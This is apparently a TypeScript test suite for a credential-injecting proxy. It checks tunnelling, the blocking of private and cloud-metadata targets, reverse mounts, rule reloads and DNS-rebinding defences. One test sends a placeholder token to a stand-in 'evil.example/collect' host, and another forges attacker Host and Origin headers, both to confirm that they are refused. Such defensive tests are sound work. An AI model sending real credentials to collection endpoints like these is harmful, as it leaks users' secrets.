// Which traffic is intercepted, tunnelled, refused or reverse-proxied, and how rules reload.
import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer, connect as netConnect } from "node:net";
import { join } from "node:path";
import { connect as tlsConnect } from "node:tls";
import { ProxyAgent, request } from "undici";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { startBroker } from "../helpers/broker.js";
import {
  ALL_REAL,
  type Fixture,
  type FixtureOptions,
  REAL_ANTHROPIC,
  REAL_OPENAI,
  rulesFor,
  startFixture,
} from "../helpers/fixture.js";
import { type AnyFixture, type InProcessFixture, startInProcessFixture } from "../helpers/in-process.js";
import type { FakeUpstream } from "../helpers/upstream.js";

const open: AnyFixture[] = [];
afterEach(async () => {
  for (const f of open.splice(0)) {
    await f.close();
    expect(f.leaks()).toEqual([]);
  }
});

/** A broker built in this process: these tests send it requests. */
async function fixture(opts: FixtureOptions = {}): Promise<InProcessFixture> {
  const f = await startInProcessFixture(opts);
  open.push(f);
  return f;
}

/** A broker process, for the tests of restarts and SIGHUP. */
async function childFixture(): Promise<Fixture> {
  const f = await startFixture();
  open.push(f);
  return f;
}

/**
 * One broker with the default rules for the tests that only send it requests (no restart, no
 * reload): a broker start is most of such a test's time.
 */
let sharedFixture: Promise<InProcessFixture> | undefined;
function shared(): Promise<InProcessFixture> {
  sharedFixture ??= startInProcessFixture();
  return sharedFixture;
}
afterAll(async () => {
  if (sharedFixture === undefined) return;
  const f = await sharedFixture;
  await f.close();
  expect(f.leaks()).toEqual([]);
});

function agentFor(f: AnyFixture, ca = readFileSync(f.broker.caPath, "utf8")): ProxyAgent {
  return new ProxyAgent({ uri: f.broker.url, requestTls: { ca } });
}

describe("routing", () => {
  it("tunnels a host without a rule untouched: the client sees the upstream's own certificate", async () => {
    const f = await shared();
    const socket = netConnect(f.broker.port, "127.0.0.1");
    await once(socket, "connect");
    // tunnel.test has no provider; resolve: maps it to the fake upstream.
    socket.write("CONNECT tunnel.test:443 HTTP/1.1\r\nHost: tunnel.test:443\r\n\r\n");
    const [head] = (await once(socket, "data")) as [Buffer];
    expect(head.toString()).toMatch(/^HTTP\/1.1 200/);
    // Trusting only the upstream's CA works: keybroker did not terminate this TLS.
    const tls = tlsConnect({
      socket,
      servername: "tunnel.test",
      ca: readFileSync(f.upstream.caPath, "utf8"),
    });
    await once(tls, "secureConnect");
    expect(tls.authorized).toBe(true);
    tls.write("GET /hello HTTP/1.1\r\nHost: tunnel.test\r\nConnection: close\r\n\r\n");
    let answer = "";
    tls.on("data", (d: Buffer) => {
      answer += d.toString();
    });
    await once(tls, "end");
    expect(answer).toMatch(/^HTTP\/1.1 200/);
    expect(f.upstream.received.at(-1)!.host).toBe("tunnel.test");
  });

  it("refuses to tunnel to a loopback or private address not listed in resolve", async () => {
    const f = await shared();
    for (const target of [
      `127.0.0.1:${f.broker.port}`,
      `localhost:${f.upstream.port}`,
      "169.254.169.254:80",
    ]) {
      const socket = netConnect(f.broker.port, "127.0.0.1");
      await once(socket, "connect");
      socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
      let answer = "";
      socket.on("data", (d: Buffer) => {
        answer += d.toString();
      });
      await once(socket, "close");
      expect(answer, target).toMatch(/^HTTP\/1.1 502/);
      expect(answer, target).toContain("loopback/private");
    }
  });

  it("audits a CONNECT that could not be tunnelled as what happened, not as tunnelled", async () => {
    // A port nothing listens on: taken, then released.
    const spare = createServer();
    await new Promise<void>((r) => spare.listen(0, "127.0.0.1", r));
    const deadPort = (spare.address() as AddressInfo).port;
    await new Promise((r) => spare.close(r));
    const f = await fixture({
      rules: (u) =>
        rulesFor(u).replace("resolve:\n", `resolve:\n  "dead.test:443": "127.0.0.1:${deadPort}"\n`),
    });
    const connectTo = async (target: string) => {
      const socket = netConnect(f.broker.port, "127.0.0.1");
      await once(socket, "connect");
      socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
      const [head] = (await once(socket, "data")) as [Buffer];
      socket.destroy();
      return head.toString();
    };
    expect(await connectTo("dead.test:443")).toMatch(/^HTTP\/1.1 502/);
    expect(await connectTo(`127.0.0.1:${deadPort}`)).toMatch(/^HTTP\/1.1 502/);
    expect(await connectTo("tunnel.test:443")).toMatch(/^HTTP\/1.1 200/);
    await f.broker.stop();
    const lines = readFileSync(join(f.home, "audit", "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .filter((l) => l.method === "CONNECT");
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatchObject({
      decision: "passthrough",
      host: "dead.test:443",
      status: 502,
      code: "upstream_unreachable",
    });
    expect(lines[0]!.reason).not.toBe("tunnelled");
    expect(lines[1]).toMatchObject({ decision: "blocked", status: 502, code: "upstream_unreachable" });
    expect(lines[2]).toMatchObject({
      decision: "passthrough",
      host: "tunnel.test:443",
      status: 200,
      reason: "tunnelled",
    });
  });

  it("with intercept: all, blocks a placeholder bound for a host without a rule; that host receives nothing", async () => {
    const f = await fixture({ rules: (u) => `intercept: all\n${rulesFor(u)}` });
    const agent = agentFor(f);
    const ph = await f.placeholder("openai");
    const before = f.upstream.received.length;
    const res = await request("https://evil.example/collect", {
      method: "POST",
      dispatcher: agent,
      headers: { authorization: `Bearer ${ph}` },
      body: "x",
    });
    expect(res.statusCode).toBe(403);
    expect(res.headers["x-keybroker-error"]).toBe("placeholder_host_mismatch");
    await res.body.text();
    expect(f.upstream.received.length).toBe(before);
    // The same host without a placeholder passes (intercepted, nothing injected).
    const ok = await request("https://evil.example/hello", { dispatcher: agent });
    expect(ok.statusCode).toBe(200);
    await ok.body.text();
    expect(f.upstream.received.at(-1)!.host).toBe("evil.example");
    await agent.close();
  });

  /** A provider on localhost:<upstream port>, which resolves into the loopback range. */
  const localProvider = (allow: boolean) => (u: FakeUpstream) =>
    `version: 1
upstream_ca: [${JSON.stringify(u.caPath)}]
providers:
  local:
    hosts: ["localhost:${u.port}"]
    credentials: [LOCAL_KEY]
${allow ? "    allow_private_upstream: true\n" : ""}`;

  it("refuses an upstream in a loopback range that neither resolve nor the provider allows", async () => {
    const f = await fixture({ rules: localProvider(false), env: { LOCAL_KEY: "sk-local-0123456789abcdef" } });
    const agent = agentFor(f);
    const res = await request(`https://localhost:${f.upstream.port}/v1/models`, { dispatcher: agent });
    expect(res.statusCode).toBe(502);
    const body = (await res.body.json()) as { error: { type: string; hint: string } };
    expect(body.error.type).toBe("upstream_unreachable");
    expect(body.error.hint).toContain("allow_private_upstream");
    expect(f.upstream.received.length).toBe(0);
    await agent.close();
  });

  it("allows a private upstream when the provider opts in", async () => {
    const key = "sk-local-0123456789abcdef";
    const f = await fixture({ rules: localProvider(true), env: { LOCAL_KEY: key } });
    const agent = agentFor(f);
    const vars = f.placeholders();
    const res = await request(`https://localhost:${f.upstream.port}/v1/models`, {
      dispatcher: agent,
      headers: { authorization: `Bearer ${vars.LOCAL_API_KEY}` },
    });
    expect(res.statusCode).toBe(200);
    await res.body.text();
    expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${key}`);
    await agent.close();
  });

  it("verifies the upstream's certificate: an untrusted upstream gets 502 upstream_tls and no key", async () => {
    const f = await fixture({ rules: (u) => rulesFor(u).replace(/^upstream_ca:.*$/m, "") });
    const agent = agentFor(f);
    const ph = await f.placeholder("openai");
    const res = await request("https://api.openai.com/v1/models", {
      dispatcher: agent,
      headers: { authorization: `Bearer ${ph}` },
    });
    expect(res.statusCode).toBe(502);
    expect(res.headers["x-keybroker-error"]).toBe("upstream_tls");
    await res.body.text();
    expect(f.upstream.received.length).toBe(0);
    await agent.close();
  });
});

describe("reverse mode", () => {
  it("serves a mounted provider on the loopback endpoint, replacing the client's dummy key", async () => {
    const f = await fixture({
      extraRules: `  anthropic-direct:
    mount: /p/anthropic-direct
    upstream: https://api.anthropic.com
    inject: { header: x-api-key }
    credentials: [ANTHROPIC_API_KEY]
`,
    });
    const res = await request(`${f.broker.url}/p/anthropic-direct/v1/messages`, {
      method: "POST",
      headers: { "x-api-key": "dummy", "content-type": "application/json" },
      body: "{}",
    });
    expect(res.statusCode).toBe(200);
    await res.body.text();
    const got = f.upstream.received.at(-1)!;
    expect(got.url).toBe("/v1/messages");
    expect(got.host).toBe("api.anthropic.com");
    expect(got.headers["x-api-key"]).toBe(REAL_ANTHROPIC);
  });

  it("mounts catalogue providers: /p/openai reaches api.openai.com with the real key", async () => {
    const f = await shared();
    const res = await request(`${f.broker.url}/p/openai/v1/chat/completions`, {
      method: "POST",
      headers: { authorization: "Bearer anything", "content-type": "application/json" },
      body: "{}",
    });
    expect(res.statusCode).toBe(200);
    await res.body.text();
    expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
  });

  it("answers an unknown mount with a clear 400", async () => {
    const f = await shared();
    const res = await request(`${f.broker.url}/p/nope/v1/x`);
    expect(res.statusCode).toBe(400);
    const body = (await res.body.json()) as { error: { message: string } };
    expect(body.error.message).toContain("/p/nope");
  });
});

describe("rules and restarts", () => {
  it("keeps placeholders across restarts of the same home", async () => {
    const f = await childFixture();
    const before = await f.placeholder("openai");
    await f.broker.stop();
    const again = await startBroker({
      home: f.home,
      config: join(f.dir, "keybroker.yaml"),
      env: { OPENAI_API_KEY: REAL_OPENAI },
    });
    try {
      const agent = new ProxyAgent({
        uri: again.url,
        requestTls: { ca: readFileSync(again.caPath, "utf8") },
      });
      const res = await request("https://api.openai.com/v1/models", {
        dispatcher: agent,
        headers: { authorization: `Bearer ${before}` },
      });
      expect(res.statusCode).toBe(200);
      await res.body.text();
      expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
      await agent.close();
    } finally {
      await again.stop();
    }
  });

  it("reloads on SIGHUP, and keeps the old rules when the new file is invalid", async () => {
    const f = await childFixture();
    const config = join(f.dir, "keybroker.yaml");
    const agent = agentFor(f);
    const ph = await f.placeholder("github");
    const basic = `Basic ${Buffer.from(`x-access-token:${ph}`).toString("base64")}`;
    const del = async () => {
      const res = await request("https://api.github.com/repos/a/b", {
        method: "DELETE",
        dispatcher: agent,
        headers: { authorization: basic },
      });
      await res.body.text();
      return res.statusCode;
    };
    expect(await del()).toBe(403);

    const waitFor = async (text: string) => {
      while (!f.broker.stderr().includes(text)) await once(f.broker.child.stderr!, "data");
    };
    writeFileSync(config, readFileSync(config, "utf8").replace(/policy:\n.*\n/, ""));
    f.broker.child.kill("SIGHUP");
    await waitFor("rules reloaded");
    expect(await del()).toBe(200);

    writeFileSync(config, "version: 1\nproviders:\n  openai: { hosts: ['api.openai.*'] }\n");
    f.broker.child.kill("SIGHUP");
    await waitFor("reload rejected");
    expect(f.broker.stderr()).toContain("providers.openai.hosts[0]");
    expect(await del()).toBe(200);
    expect(f.upstream.received.at(-1)!.method).toBe("DELETE");
    await agent.close();
    expect(ALL_REAL.some((s) => f.broker.stderr().includes(s))).toBe(false);
  });
});

describe("reloading an empty or version-less rule file", () => {
  it("is rejected and the old rules stay: the provider keeps its credential", async () => {
    const f = await childFixture();
    const config = join(f.dir, "keybroker.yaml");
    const agent = agentFor(f);
    const ph = await f.placeholder("openai");
    const call = async () => {
      const res = await request("https://api.openai.com/v1/models", {
        dispatcher: agent,
        headers: { authorization: `Bearer ${ph}` },
      });
      await res.body.text();
      return res.statusCode;
    };
    expect(await call()).toBe(200);
    const rejections = () => f.broker.stderr().split("reload rejected").length - 1;
    const waitForRejection = async (after: number, text: string) => {
      while (rejections() <= after || !f.broker.stderr().includes(text))
        await once(f.broker.child.stderr!, "data");
    };
    const good = readFileSync(config, "utf8");
    for (const [text, message] of [
      ["", "the rule file is empty"],
      ["# being edited\n", "the rule file is empty"],
      [good.replace(/^version: 1\n/m, ""), "required key is missing: a rule file must say"],
    ] as const) {
      const before = rejections();
      writeFileSync(config, text);
      f.broker.child.kill("SIGHUP");
      await waitForRejection(before, message);
      expect(await call()).toBe(200);
      expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
    }
    expect(f.broker.stderr()).not.toContain("rules reloaded");
    await agent.close();
  });
});

describe("the listener's own endpoints", () => {
  it("refuse requests from web pages: a foreign Host (DNS rebinding), Origin or Sec-Fetch-Site", async () => {
    const f = await shared();
    const before = f.upstream.received.length;
    const url = `${f.broker.url}/p/openai/v1/chat/completions`;
    for (const headers of [
      { host: `evil.attacker.com:${f.broker.port}` },
      { origin: "http://evil.attacker.com" },
      { "sec-fetch-site": "cross-site" },
    ]) {
      const res = await request(url, {
        method: "POST",
        headers: { "content-type": "text/plain", ...headers },
        body: "{}",
      });
      expect(res.statusCode, JSON.stringify(headers)).toBe(400);
      expect(((await res.body.json()) as { error: { message: string } }).error.message).toMatch(
        /not served here|web pages/,
      );
    }
    expect(f.upstream.received.length).toBe(before);
    // A local program (no Origin, a loopback Host) is served.
    const ok = await request(url, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: "{}",
    });
    expect(ok.statusCode).toBe(200);
    await ok.body.text();
  });
});

describe("secrets with replacement patterns", () => {
  it("injects a key containing $&, $` and $' exactly as it is", async () => {
    const key = "sk-real$&dollar$`key$'end$$1234567890";
    const f = await fixture({ env: { OPENAI_API_KEY: key } });
    const agent = agentFor(f);
    const ph = await f.placeholder("openai");
    const res = await request("https://api.openai.com/v1/models", {
      dispatcher: agent,
      headers: { authorization: `Bearer ${ph}` },
    });
    expect(res.statusCode).toBe(200);
    await res.body.text();
    expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${key}`);
    const reverse = await request(`${f.broker.url}/p/openai/v1/models`);
    await reverse.body.text();
    expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${key}`);
    await agent.close();
  });
});
